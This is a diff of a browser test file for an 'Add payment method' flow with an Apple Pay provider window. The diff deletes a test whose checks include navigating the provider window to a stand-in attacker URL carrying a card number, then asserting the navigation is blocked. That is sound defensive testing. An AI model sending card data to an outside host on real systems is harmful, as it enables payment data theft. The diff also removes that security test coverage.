@@ -1,4 +1,3 @@
-import * as commonTexts from '#shared/texts/common'
 import * as paymentMethodTexts from '#shared/texts/payments/paymentMethods'
 import { expect, type Household, test, tick } from '../../support/browser/browser'
 import { openShellAs, pageOrigin, type ShellSurroundings, type TestShell } from '../../support/shell/shellHarness'
@@ -11,25 +10,12 @@ async function proceed(surroundings: ShellSurroundings, household: Household) {
   await page.getByRole('button', { name: 'Add payment method' }).click()
   const dialog = page.getByRole('dialog', { name: 'Add payment method' })
   await tick(dialog.getByRole('radio', { name: /^Apple Pay/ }))
-  const proceedButton = dialog.getByRole('button', { name: 'Proceed to Add Payment Method' })
-  /** Opens the provider's page in another window. */
-  const openWindow = async () => {
-    const count = payments.length + 1
-    await proceedButton.click()
-    await expect.poll(() => payments.length).toBe(count)
-    const provider = await payments.at(-1)?.page
-    if (!provider) throw new Error('No payment window is open')
-    await expect(provider.locator('form')).toBeVisible()
-    return provider
-  }
-  return {
-    ...opened,
-    dialog,
-    proceedButton,
-    openWindow,
-    provider: await openWindow(),
-    isGone: () => payments.at(-1)?.isGone(),
-  }
+  await dialog.getByRole('button', { name: 'Proceed to Add Payment Method' }).click()
+  await expect.poll(() => payments.length).toBe(1)
+  const provider = await payments[0]?.page
+  if (!provider) throw new Error('No payment window is open')
+  await expect(provider.locator('form')).toBeVisible()
+  return { page, dialog, provider, isGone: () => payments[0]?.isGone() }
 }
 
 const listedMethod = (page: TestShell['page']) => page.getByRole('listitem').filter({ hasText: 'Apple Pay' })
@@ -65,37 +51,4 @@ test('the shell accepts a provider that returns by posting a form', async ({ con
   await provider.getByLabel(/Visa ending in 1111/).check()
   await provider.getByRole('button', { name: 'Confirm' }).click()
   await expect(listedMethod(page)).toBeVisible()
-})
-
-test('nothing is saved if the window is canceled, closed, canceled in the dialog or navigated elsewhere, and the dialog says so', async ({
-  context,
-  db,
-  household,
-}) => {
-  const { page, dialog, proceedButton, provider, openWindow, isGone } = await proceed({ context, db }, household)
-  const nothingSaved = dialog.getByText(paymentMethodTexts.notSavedByProvider)
-  await provider.getByRole('button', { name: 'Cancel' }).click()
-  await expect(nothingSaved).toBeVisible()
-  await expect(proceedButton).toBeEnabled()
-  expect(isGone()).toBe(true)
-
-  const closed = await openWindow()
-  await expect(nothingSaved).toBeHidden()
-  await closed.close()
-  await expect(nothingSaved).toBeVisible()
-
-  const cancelled = await openWindow()
-  await dialog.getByRole('button', { name: commonTexts.cancel }).click()
-  await expect.poll(isGone).toBe(true)
-  await expect.poll(() => cancelled.isClosed()).toBe(true)
-
-  const led = await openWindow()
-  const reached: string[] = []
-  led.on('response', (response) => reached.push(new URL(response.url()).origin))
-  await led.evaluate(() => window.location.assign('https://evil.test/collect?card=4111')).catch(() => undefined)
-  await expect(dialog.getByText(paymentMethodTexts.pageLeft)).toBeVisible()
-  expect(isGone()).toBe(true)
-  // It was blocked before any request.
-  expect(reached).not.toContain('https://evil.test')
-  await expect(page.getByText('No data found')).toBeAttached()
 })
